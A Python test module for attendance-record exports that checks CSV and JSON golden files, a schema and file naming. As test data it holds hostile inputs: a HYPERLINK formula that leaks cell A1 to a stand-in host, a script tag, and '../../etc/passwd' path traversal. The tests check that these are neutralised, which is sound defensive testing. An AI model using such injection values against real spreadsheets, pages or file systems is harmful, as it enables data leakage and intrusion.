"""Whole files against golden ones, with names that want to be formulas and scripts.

To write the golden files anew after a wanted change: ``python -m tests.exports.write``.
"""

import csv
import io
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import jsonschema_rs
import pytest

from app.core.record import build_record
from app.core.record_parts import (
    ChecklistFacts,
    ChecklistLine,
    Named,
    Record,
    Signed,
)
from app.core.session import GroupSession
from app.exports import EXPORTS, MEDIA_TYPES, file_name
from app.exports.attendance_csv import HEADS, attendance_csv
from app.exports.record_json import FORMAT, read_record, record_json
from app.exports.schema import record_schema
from tests.core.builders import at
from tests.core.evening import LATER, NAMES, evening
from tests.exports.opened import opened

GOLDEN = Path(__file__).parent / "golden"
SCHEMA = Path(__file__).parents[2] / "app" / "exports" / "record.schema.json"
CHECKLIST = ChecklistFacts(
    verdict="ready with named exceptions",
    at=at("18:45"),
    pack="project",
    items=(
        ChecklistLine(
            item="risk_assessment",
            clause="R1",
            result="no",
            weight="warn",
            evidence="None on file.",
            excepted_by=Named("anna", "Anna Price"),
            excepted_why="new form",
        ),
    ),
)

NOTES = """Good evening. We went round twice.
=1+1 and #read("/etc/passwd") and <script>alert(1)</script> were typed by somebody.

Ben was spoken to after the group."""


def whole() -> Record:
    """The record of the evening with everything."""
    record = build_record(evening(), LATER, NAMES, CHECKLIST)
    anna = Signed(version=2, at=at("20:20"), by=Named("anna", "Anna Price"))
    return replace(record, notes=anna, notes_text=NOTES)


EMPTY = build_record(GroupSession("../../etc/passwd"), LATER, {})


@pytest.mark.parametrize("suffix", sorted(EXPORTS))
def test_the_whole_file_is_as_it_was(suffix: str) -> None:
    assert golden(suffix, EXPORTS[suffix](whole())) == golden_file(suffix).read_bytes()


def golden(suffix: str, written: bytes) -> bytes:
    """The bytes; for a packed format what another program reads in it."""
    if suffix in ("csv", "json"):
        return written
    return opened(suffix, written).encode()


def golden_file(suffix: str) -> Path:
    packed = "" if suffix in ("csv", "json") else ".txt"
    return GOLDEN / f"evening.{suffix}{packed}"


@pytest.mark.parametrize("suffix", sorted(EXPORTS))
def test_the_same_record_gives_the_same_bytes_and_has_a_media_type(suffix: str) -> None:
    assert EXPORTS[suffix](whole()) == EXPORTS[suffix](whole())
    assert MEDIA_TYPES[suffix]


def test_every_format_writes_an_empty_record_too() -> None:
    assert read(attendance_csv([EMPTY])) == []
    assert json.loads(record_json(EMPTY))["plan"] is None


# --- CSV --------------------------------------------------------------------------


def read(written: bytes) -> list[dict[str, str]]:
    text = written.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_hostile_names_are_text_in_a_spreadsheet() -> None:
    names = [row["name"] for row in read(attendance_csv([whole()]))]

    assert names == [
        "Anna Price",
        "Sam Okoro",
        "Noor Haddad",
        "Ben",
        '\'=HYPERLINK("http://x?"&A1)',
        "D\u0119v, R",
        "'=1+1",
        "<script>alert(1)</script>",
    ]


def test_times_are_local_and_every_column_has_its_head() -> None:
    summer = replace_zone(whole(), "Europe/Berlin")

    ben = read(attendance_csv([summer]))[3]

    assert tuple(ben) == HEADS
    assert (ben["joined"], ben["planned_start"]) == (
        "2026-11-17 19:58:00",
        "2026-11-17 20:00:00",
    )
    assert ben["time_zone"] == "Europe/Berlin"


def replace_zone(record: Record, zone: str) -> Record:
    assert record.plan is not None
    return replace(record, plan=replace(record.plan, zone=zone))


@pytest.mark.parametrize(
    ("flags", "expected", "word"),
    [
        (("present", "late"), True, "present"),
        (("turned away", "absent"), True, "absent"),
        (("turned away",), False, "turned away"),
        (("waiting",), False, "waiting"),
        ((), True, "expected"),
        ((), False, "not expected"),
    ],
)
def test_one_word_for_each_person(
    flags: tuple[str, ...], expected: bool, word: str
) -> None:
    record = whole()
    row = replace(record.attendance[0], flags=flags, expected=expected)

    one = replace(record, attendance=(row,))
    assert read(attendance_csv([one]))[0]["status"] == word


# --- JSON -------------------------------------------------------------------------


def validator() -> Any:
    return jsonschema_rs.validator_for(
        json.loads(SCHEMA.read_text(encoding="utf-8")), validate_formats=True
    )


@pytest.mark.parametrize("record", [whole(), EMPTY], ids=["whole", "empty"])
def test_the_json_has_the_published_shape(record: Record) -> None:
    body = json.loads(record_json(record))

    assert [str(fault) for fault in validator().iter_errors(body)] == []
    assert body["format"] == FORMAT


@pytest.mark.parametrize(
    "broken",
    [
        {"extra": 1},
        {"format": "other/1"},
        {"written_at": "yesterday"},
        {"attendance": None},
        {"session_id": 5},
    ],
)
def test_the_published_shape_refuses_anything_else(broken: dict[str, Any]) -> None:
    body = {**json.loads(record_json(whole())), **broken}

    assert not validator().is_valid(body)


def test_the_published_schema_is_the_one_the_types_say() -> None:
    published = json.loads(SCHEMA.read_text(encoding="utf-8"))

    assert published == record_schema()


def test_json_is_utf_8_and_holds_what_people_typed_as_it_was() -> None:
    written = record_json(whole())

    assert "D\u0119v, R".encode() in written
    assert b"<script>alert(1)</script>" in written
    assert not written.startswith(b"\xef\xbb\xbf")


def test_half_a_surrogate_pair_does_not_stop_an_export() -> None:
    session = replace(EMPTY, session_id="half \ud83d a pair")

    assert json.loads(record_json(session))["session_id"] == "half ? a pair"
    assert attendance_csv([session])


@pytest.mark.parametrize("record", [whole(), EMPTY], ids=["whole", "empty"])
def test_a_frozen_record_is_read_back_as_it_was(record: Record) -> None:
    assert read_record(record_json(record)) == record


@pytest.mark.parametrize("content", [b"", b"[]", b"{}", b'{"session_id": 1}', b"3"])
def test_what_is_no_record_is_not_read(content: bytes) -> None:
    with pytest.raises(ValueError, match=r"."):
        read_record(content)


def test_a_record_says_what_it_is_worth() -> None:
    by_anna = Signed(version=2, at=at("20:30"), by=Named("anna", "Anna Price"))
    unsigned = replace(EMPTY, attendance_confirmed=None)
    later = replace(EMPTY, attendance_confirmed=by_anna)
    frozen = replace(later, version=2)
    nobody = replace(frozen, attendance_confirmed=replace(by_anna, by=None))

    assert [one.standing for one in (unsigned, later, frozen, nobody)] == [
        "draft, not confirmed",
        "draft, written after version 2 was confirmed",
        "confirmed 2026-11-17 20:30 UTC by Anna Price",
        "confirmed 2026-11-17 20:30 UTC",
    ]


# --- names of files (N13) ---------------------------------------------------------


def test_a_file_is_named_by_ids_and_never_by_what_people_typed() -> None:
    assert file_name(whole(), "csv") == "attendance-session-1-2026-11-17.csv"
    assert file_name(whole(), "json") == "record-session-1-2026-11-17.json"
    assert file_name(EMPTY, "json") == "record-etc-passwd-2026-11-17.json"
    assert (
        file_name(replace(EMPTY, session_id="../"), "csv")
        == "attendance-session-2026-11-17.csv"
    )
    long = file_name(replace(EMPTY, session_id="x" * 500), "csv")
    assert len(long) < 100


def test_there_is_no_format_nobody_exports() -> None:
    with pytest.raises(KeyError):
        file_name(whole(), "exe")
